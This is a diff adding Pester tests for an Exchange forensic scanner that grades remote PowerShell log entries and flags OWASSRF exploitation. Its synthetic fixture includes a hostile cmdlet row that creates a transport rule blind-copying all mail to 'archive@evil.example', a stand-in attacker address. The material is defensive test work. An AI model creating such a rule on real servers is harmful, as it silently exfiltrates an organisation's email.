@@ -126,3 +126,56 @@ Describe 'Find-HafniumLogIndicator on a case folder named with [ ]' {
         @(Get-ChildItem -LiteralPath $caseFolder -Recurse | Find-HafniumLogIndicator).Count | Should -Be $plainCount
     }
 }
+
+Describe 'Find-HafniumLogIndicator weighs mail-flow and certificate cmdlets against the server''s proxied sessions' {
+    BeforeAll {
+        $httpFields = 'DateTime,StartTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,ClientRequestId,UrlHost,UrlStem,AuthenticationType,IsAuthenticated,AuthenticatedUser,Organization,ManagedOrganization,ClientIpAddress,ServerHostName,FrontEndServer,HttpStatus,SubStatus,ErrorCode,Action,CommandId,CommandName,SessionId,ShellId,FailFast,ContributeToFailFast,RequestBytes,ClientInfo,CPU,Memory,ActivityContextLifeTime,TotalTime,UrlQuery,GenericLatency,GenericInfo,GenericErrors' -split ','
+        $cmdletFields = 'DateTime,StartTime,RequestId,ClientRequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,ServerHostName,ProcessId,ProcessName,ThreadId,CultureInfo,Organization,AuthenticatedUser,ExecutingUserSid,EffectiveOrganization,UserServicePlan,IsAdmin,ClientApplication,Cmdlet,Parameters,CmdletUniqueId,UserBudgetOnStart,ContributeToFailFast,RunspaceSettingsCreationHint,ADViewEntireForest,ADRecipientViewRoot,ADConfigurationDomainControllers,ADPreferredGlobalCatalogs,ADPreferredDomainControllers,ADUserConfigurationDomainController,ADUserPreferredGlobalCatalog,ADuserPreferredDomainControllers,ThrottlingInfo,DelayInfo,ThrottlingDelay,IsOutputObjectRedacted,CmdletProxyStage,CmdletProxyRemoteServer,CmdletProxyRemoteServerVersion,CmdletProxyMethod,ProxiedObjectCount,CmdletProxyLatency,OutputObjectCount,ParameterBinding,BeginProcessing,ProcessRecord,EndProcessing,StopProcessing,BizLogic,PowerShellLatency,UserInteractionLatency,ProvisioningLayerLatency,ActivityContextLifeTime,TotalTime,ErrorType,ExecutionResult,CacheHitCount,CacheMissCount,GenericLatency,GenericInfo,GenericErrors,ObjectGuid,ExternalDirectoryOrganizationId,ExternalDirectoryObjectId,NonPiiParameters' -split ','
+        function script:Write-RpsLog([string] $Path, [string[]] $Fields, [string] $LogType, [hashtable[]] $Rows) {
+            $header = $Fields -join ','
+            $lines = @($header, '#Software: Microsoft Exchange Server', '#Version: 15.02.1118.007', "#Log-type: $LogType", '#Date: 2022-12-20T09:00:00.000Z', "#Fields: $header")
+            foreach ($row in $Rows) {
+                $lines += ($Fields | ForEach-Object {
+                        $v = [string] $row[$_]
+                        if ($v -match '[",]') { '"' + $v.Replace('"', '""') + '"' } else { $v }
+                    }) -join ','
+            }
+            $null = New-Item -ItemType Directory -Force -Path (Split-Path -Parent $Path)
+            [System.IO.File]::WriteAllText($Path, ($lines -join "`r`n") + "`r`n")
+        }
+
+        $script:server = Join-Path $TestDrive 'EXCH21'
+        $rps = Join-Path $server 'Logging/CmdletInfra/Powershell-Proxy'
+        Write-RpsLog (Join-Path $rps 'Http/Rps_Http_2022122009-1.LOG') $httpFields 'Rps Http Logs' @(
+            @{ DateTime = '2022-12-20T09:00:04.300Z'; UrlStem = '/powershell'; AuthenticatedUser = 'exadmin@contoso.local'; ClientIpAddress = '10.20.1.7'; ServerHostName = 'EXCH21'; HttpStatus = '200'; ClientInfo = 'Microsoft WinRM Client'; UrlQuery = '?serializationLevel=Full;clientApplication=ManagementShell' }
+            @{ DateTime = '2022-12-20T11:00:02.300Z'; UrlStem = '/powershell'; AuthenticatedUser = 'jdoe@contoso.com'; ClientIpAddress = '203.0.113.20'; ServerHostName = 'EXCH21'; HttpStatus = '200'; ClientInfo = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML  like Gecko) Chrome/105.0.5195.54 Safari/537.36'; UrlQuery = '?' }
+        )
+        Write-RpsLog (Join-Path $rps 'Cmdlet/Rps_Cmdlet_2022122009-1.LOG') $cmdletFields 'Rps Cmdlet Logs' @(
+            @{ DateTime = '2022-12-20T09:00:05.300Z'; ServerHostName = 'EXCH21'; ProcessName = 'w3wp#MSExchangePowerShellAppPool'; AuthenticatedUser = 'exadmin'; ExecutingUserSid = 'S-1-5-21-1-2-3-1107'; ClientApplication = 'ManagementShell'; Cmdlet = 'Set-TransportRule'; Parameters = '-Identity "Disclaimer" -ApplyHtmlDisclaimerText "<p>Confidential</p>"'; ExecutionResult = 'Success' }
+            @{ DateTime = '2022-12-20T09:01:00.300Z'; ServerHostName = 'EXCH21'; ProcessName = 'w3wp#MSExchangePowerShellAppPool'; AuthenticatedUser = 'exadmin'; ExecutingUserSid = 'S-1-5-21-1-2-3-1107'; ClientApplication = 'ManagementShell'; Cmdlet = 'Enable-ExchangeCertificate'; Parameters = '-Thumbprint "5113AE0233A72FCCB75E1A4C4B5A3C1F0E2D9A77" -Services "IIS,SMTP"'; ExecutionResult = 'Success' }
+            @{ DateTime = '2022-12-20T11:00:05.300Z'; ServerHostName = 'EXCH21'; ProcessName = 'w3wp#MSExchangePowerShellAppPool'; AuthenticatedUser = 'jdoe'; ExecutingUserSid = 'S-1-5-21-1-2-3-500'; Cmdlet = 'new-transportrule'; Parameters = "-blindcopyto 'archive@evil.example' -Name:Archive"; ExecutionResult = 'Success' }
+        )
+        $script:told = @(Find-HafniumLogIndicator -Path $server | Where-Object { $_ -is [HafniumTools.Model.Finding] })
+    }
+
+    It 'keeps the admin''s ManagementShell changes below Medium' {
+        $admin = @($told | Where-Object { $_.Timestamp -lt [DateTimeOffset]'2022-12-20T10:00:00Z' })
+        $admin.RuleId | Should -Be @('HT-RPS-120', 'HT-RPS-121')
+        $admin | ForEach-Object { $_.Verdict | Should -Be 'Context'; $_.Severity | Should -BeIn 'Informational', 'Low' }
+    }
+
+    It 'reports the transport rule made in the OWASSRF session as exploitation of that campaign' {
+        $rule = $told | Where-Object Operation -eq 'new-transportrule'
+        $rule.RuleId | Should -Be 'HT-RPS-124'
+        $rule.Verdict | Should -Be 'Exploitation'
+        $rule.Campaign | Should -Be 'OWASSRF'
+        $rule.Cve | Should -Contain 'CVE-2022-41080'
+        $rule.Detail | Should -Match 'HT-RPS-003'
+    }
+
+    It 'selects by campaign after the cmdlet was told with its session' {
+        $owassrf = @(Find-HafniumLogIndicator -Path $server -Campaign OWASSRF)
+        $owassrf.RuleId | Should -Contain 'HT-RPS-124'
+        $owassrf | ForEach-Object { $_.Campaign | Should -Be 'OWASSRF' }
+    }
+}
